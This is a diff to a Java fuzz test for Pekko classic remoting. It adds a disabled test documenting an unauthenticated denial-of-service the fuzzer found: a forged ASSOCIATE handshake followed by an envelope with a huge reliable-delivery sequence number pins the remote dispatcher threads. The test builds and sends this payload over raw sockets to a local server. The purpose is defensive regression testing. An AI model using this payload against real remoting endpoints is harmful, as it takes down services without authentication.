@@ -171,7 +171,8 @@ class RemotingFuzzTest {
           o.writeByteArray(4, message(p -> p.writeString(1, randomText(r, 30))));
         }
         if (r.nextBoolean()) {
-          o.writeFixed64(5, r.nextLong());
+          // Reliable-delivery seq kept small: a huge one pins a remote dispatcher thread (see the disabled test below).
+          o.writeFixed64(5, r.nextInt(4));
         }
       });
       byte[] container = r.nextInt(4) == 0 ? bytes(r, r.nextInt(300)) : message(o -> o.writeByteArray(2, envelope));
@@ -384,5 +385,66 @@ class RemotingFuzzTest {
     System.out.println("[fuzz] remoting: " + remotingWarnings.size() + " WARN/ERROR lines from org.apache.pekko.remote, e.g. "
         + remotingWarnings.stream().map(e -> e.getLoggerName() + ": " + e.getFormattedMessage()).distinct().limit(6).toList());
     assertThat(remotingWarnings).as("the refused connections are logged; " + seedNote).isNotEmpty();
+  }
+
+  /**
+   * FOUND BY THIS FUZZER, not fixed (it is in Pekko classic remoting, not in this project): one forged ASSOCIATE
+   * followed by one envelope whose reliable-delivery {@code seq} is huge makes {@code AckedReceiveBuffer
+   * .extractDeliverable} collect every missing sequence number of the gap into a Set, a loop of ~seq iterations on
+   * a {@code pekko.remote.default-remote-dispatcher} thread, unauthenticated. Two such connections pin both threads
+   * of that dispatcher and the server stops answering heartbeats for good. Enable once a mitigation exists (e.g. a
+   * transport adapter that drops inbound envelopes with a seq far ahead of the buffer).
+   */
+  @Test
+  @org.junit.jupiter.api.Disabled("known Pekko classic remoting DoS: a huge reliable-delivery seq pins the remote dispatcher")
+  @Timeout(value = 60, unit = TimeUnit.SECONDS)
+  void aHugeReliableDeliverySeqDoesNotStopTheServer() throws Exception {
+    String hostPort = server.remotingAddress();
+    int port = Integer.parseInt(hostPort.substring(hostPort.lastIndexOf(':') + 1));
+    List<Socket> open = new ArrayList<>();
+    try {
+      for (int i = 0; i < 3; i++) {
+        int origin = 20000 + i;
+        byte[] address = message(o -> {
+          o.writeString(1, "127000000001_" + origin + "_1");
+          o.writeString(2, "127.0.0.1");
+          o.writeUInt32(3, origin);
+          o.writeString(4, "akka.tcp");
+        });
+        byte[] handshake = message(o -> {
+          o.writeByteArray(1, address);
+          o.writeFixed64(2, 42L + origin);
+        });
+        byte[] associate = message(o -> o.writeByteArray(2, message(c -> {
+          c.writeEnum(1, 1);
+          c.writeByteArray(2, handshake);
+        })));
+        byte[] envelope = message(o -> {
+          o.writeByteArray(1, message(p -> p.writeString(1, ActorPaths.onServer(hostPort, ActorPaths.SERVER_HEARTBEAT))));
+          o.writeByteArray(2, message(m -> {
+            m.writeByteArray(1, new byte[] {1, 2, 3});
+            m.writeInt32(2, 2);
+          }));
+          o.writeFixed64(5, Long.MAX_VALUE / 2);
+        });
+        byte[] payload = message(o -> o.writeByteArray(1, message(c -> c.writeByteArray(2, envelope))));
+        Socket socket = new Socket();
+        socket.connect(new InetSocketAddress("127.0.0.1", port), 2000);
+        socket.getOutputStream().write(concat(frame(associate), frame(payload)));
+        socket.getOutputStream().flush();
+        open.add(socket);
+      }
+      Thread.sleep(500);
+      ActorSystem fresh = ActorSystem.create("127000000001_4244_1", RemotingSettings.of("127.0.0.1", 0).toConfig());
+      try {
+        assertThat(heartbeat(fresh, "127000000001_4244_1").getSuccess()).isTrue();
+      } finally {
+        fresh.terminate();
+      }
+    } finally {
+      for (Socket s : open) {
+        s.close();
+      }
+    }
   }
 }
